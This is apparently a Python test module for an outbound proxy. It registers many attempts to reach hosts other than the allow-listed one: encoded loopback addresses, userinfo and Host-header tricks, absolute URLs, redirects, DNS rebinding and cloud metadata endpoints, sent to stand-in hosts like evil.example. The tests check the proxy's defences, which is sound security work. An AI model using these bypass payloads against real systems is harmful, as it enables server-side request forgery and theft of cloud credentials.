"""A token to another place than the rules list: by another name, another spelling, another port, or two names in one request. All of them lead to this machine."""

import re

from secluded import METADATA

from .technique import Attempt, sent

G = "host"
# What the resolver of this machine says of names: the first is the service's own; those of `INSIDE` a rule lists, without allowing addresses of one's own network.
NAMES = ["api.shop.example", "evil.example", "api.shop.example.evil.example", "evil-api.shop.example", "xapi.shop.example", "shop.example", "a.api.shop.example",
         "apixshop.example", "xn--pi-7kc.shop.example", "api.shop.example-evil.example", "cdn.api.shop.example.evil.example"]
INSIDE = {"inside.example": "127.0.0.1", "beside.example": "127.0.0.5", "zero.example": "0.0.0.0", "six.example": "::1", "mapped.example": "::ffff:127.0.0.1"}
# Those of `CLOUD` lead to where clouds serve a machine its credentials; a rule lists them, and allows addresses of one's own network.
CLOUD = dict(zip(("cloud.example", "cloud6.example"), METADATA))
# Names whose address a technique changes; rules list them as those above.
CHANGING = ["late.example", "both.example"]


def asked(name, what, host, own=False, needs=(), **more):
    """A tunnel to a host, and a request for it."""
    to = host if host.endswith(">") else f"{host}:<port>"
    Attempt(G, name, what, lambda place: place.ask("/v1/public/x", to=to, host=to, **more), own=own, needs=needs)


def request(*lines, target="/v1/public/x"):
    return "\r\n".join([f"GET {target} HTTP/1.1", *lines, "Authorization: Bearer <TOKEN>", "Connection: close", "", ""])


asked("other", "another host", "evil.example", sni="evil.example")
asked("below-other", "the listed name below another one", "api.shop.example.evil.example", sni="api.shop.example.evil.example")
asked("dash-other", "the listed name as a label's beginning", "api.shop.example-evil.example", sni=None)
asked("dash", "a name that ends with the listed one", "evil-api.shop.example", sni="evil-api.shop.example")
asked("letter", "a name with one letter before the listed one", "xapi.shop.example", sni="xapi.shop.example")
asked("parent", "the domain above", "shop.example", sni="shop.example")
asked("child", "a name below the listed one", "a.api.shop.example", sni="a.api.shop.example")
asked("dot-any", "another character in the place of a dot", "apixshop.example", sni="apixshop.example")
asked("port", "another port", "api.shop.example:<other>")
asked("dot", "a dot at the end", "api.shop.example.", sni="api.shop.example.", own=True)
asked("homograph", "a Cyrillic letter, as DNS writes it", "xn--pi-7kc.shop.example", sni="xn--pi-7kc.shop.example")
asked("address", "an address", "127.0.0.1", sni=None)
asked("decimal", "an address as one number", "2130706433", sni=None)
asked("octal", "an address with zeros in front", "0177.0.0.1", sni=None)
asked("hexadecimal", "an address in hexadecimal digits", "0x7f000001", sni=None)
asked("short", "an address of two numbers", "127.1", sni=None)
asked("six", "an address of IPv6", "[::1]", sni=None)
asked("mapped", "an address of IPv4 inside one of IPv6", "[::ffff:127.0.0.1]", sni=None)
asked("zero", "the address of nobody, which is this machine", "0.0.0.0", sni=None)
asked("user", "the listed name as the user of another", "api.shop.example@evil.example", sni="evil.example")
asked("user-password", "the listed name and its port as user and password of another", "api.shop.example:443@evil.example:<port>", sni="evil.example")
for _name in INSIDE:
    asked(f"inside-{_name.partition('.')[0]}", f"a listed name that leads to {INSIDE[_name]} now", _name, sni=None)


for _name, _address in CLOUD.items():
    asked(f"{_name.partition('.')[0]}-address", f"{_address}, where a cloud serves a machine its credentials", f"[{_address}]" if ":" in _address else _address, sni=None, needs=[_address])
    asked(_name.partition(".")[0], f"a name that leads to {_address}, by a rule that allows addresses of one's own network", _name, sni=None, needs=[_address])


def renamed(place):
    """The service is not asked at all: whom the broker names to it tells nothing of whom the program named."""
    got = place.send(request("Host: <authority>"), sni="evil.example")
    if any(connection.raw for connection in place.upstream.connections):
        place.faults.add("host")
    return got


Attempt(G, "server-name", "another server name in the handshake", renamed)
sent(G, "no-server-name", "another Host in a tunnel without a server name", request("Host: evil.example"), sni=None)
sent(G, "field", "another host in the Host field", request("Host: evil.example"))
sent(G, "field-port", "another port in the Host field", request("Host: <host>:<other>"))
sent(G, "field-dot", "a dot at the end of the Host field", request("Host: <host>."))
sent(G, "field-user", "the listed name as a user in the Host field", request("Host: <host>@evil.example"))
sent(G, "field-twice", "two Host fields", request("Host: <authority>", "Host: evil.example"))
sent(G, "field-twice-other", "two Host fields, the other one first", request("Host: evil.example", "Host: <authority>"))
sent(G, "field-list", "two hosts in one field", request("Host: <authority>, evil.example"))
sent(G, "field-blank", "two hosts in one field, a blank between them", request("Host: <authority> evil.example"))
sent(G, "field-before-colon", "another Host with a blank before its colon", request("Host: <authority>", "Host : evil.example"))
sent(G, "field-folded", "another Host on a folded line", request("Host: <authority>", "X: y", " Host: evil.example", "Host: evil.example"))
sent(G, "field-underscore", "another host in `X_Forwarded_Host`", request("Host: <authority>", "X_Forwarded_Host: evil.example"))
sent(G, "forwarded-host", "another host in X-Forwarded-Host", request("Host: <authority>", "X-Forwarded-Host: evil.example"))
sent(G, "forwarded", "another host in Forwarded", request("Host: <authority>", "Forwarded: for=1.1.1.1;host=evil.example"))
sent(G, "x-host", "another host in X-Host", request("Host: <authority>", "X-Host: evil.example"))
sent(G, "absolute", "a whole URL of another host", request("Host: <authority>", target="https://evil.example:<port>/v1/public/x"))
sent(G, "absolute-field", "a whole URL of the listed host, and another Host", request("Host: evil.example", target="https://<authority>/v1/public/x"))
sent(G, "absolute-user", "a whole URL with the listed host as its user", request("Host: <authority>", target="https://<host>@evil.example:<port>/v1/public/x"))
sent(G, "absolute-scheme", "a whole URL of another scheme", request("Host: <authority>", target="gopher://evil.example/v1/public/x"))
sent(G, "authority-form", "a tunnel inside the tunnel", "CONNECT evil.example:<port> HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer <TOKEN>\r\n\r\n", own=True)
sent(G, "idna-dot", "an ideographic full stop", request("Host: <authority>"), to="api\u3002shop.example:<port>".encode().decode("latin-1"), own=True)
for _name, _what in [("stranger", "signed by somebody else"), ("name", "for another name")]:
    Attempt(G, f"certificate-{_name}", f"the listed host under a certificate {_what}", lambda place, port=_name: place.ask(
        "/v1/public/x", to=f"api.shop.example:{place.upstream.ports[port]}"))


def plain(place):
    """To the door itself, without a tunnel."""
    url = f"http://api.shop.example:{place.upstream.ports['plain']}/v1/public/x"
    head = request("Host: <host>", f"Proxy-Authorization: Basic {place.door.credential}", target=url)
    return place.knock(head)[1]


Attempt(G, "plain", "plain `http` through the proxy", plain)


def redirected(status, location):
    def follow(place):
        place.upstream.replies["/v1/public/moved"] = lambda _: [place.filled(
            f"HTTP/1.1 {status} Moved\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n")]
        got = place.ask("/v1/public/moved")
        found = re.search(rb"\r\nlocation: *https?://([^/\r\n]*)(/[^\r\n]*)", got, re.I)
        if not found:
            return got
        authority, path = found[1].decode(), found[2].decode()
        host = authority.rpartition("@")[2].partition(":")[0]
        return got + place.send(request(f"Host: {authority}", target=path), to=authority, sni=host)

    return follow


for _name, _status, _location, _what in [
    ("redirect", 302, "https://evil.example:<port>/v1/public/x", "a redirect to another host"),
    ("redirect-kept", 307, "https://evil.example:<port>/v1/public/x", "a redirect that keeps method and fields"),
    ("redirect-port", 308, "https://<host>:<other>/v1/public/x", "a redirect to another port"),
    ("redirect-path", 302, "https://<authority>/v1/public/../admin", "a redirect to a path that the rules refuse"),
    ("redirect-user", 302, "https://<authority>@evil.example:<port>/v1/public/x", "a redirect to another host, with the listed one as its user"),
]:
    Attempt(G, _name, _what, redirected(_status, _location))


def refreshed(place):
    """The listed host leads elsewhere after it was asked once."""
    place.ask("/v1/public/x")
    place.resolve("late.example", "127.0.0.1")
    return place.ask("/v1/public/x", to="late.example:<port>", host="late.example:<port>", sni=None)


Attempt(G, "rebinding", "a listed name whose address becomes one of this machine", refreshed)


def both(place):
    """A name with an address outside and one inside, whichever is tried first."""
    place.resolve("both.example", "127.0.0.1", "203.0.113.9")
    return place.ask("/v1/public/x", to="both.example:<port>", host="both.example:<port>", sni=None)


Attempt(G, "two-addresses", "a listed name with an address outside and one of this machine", both)
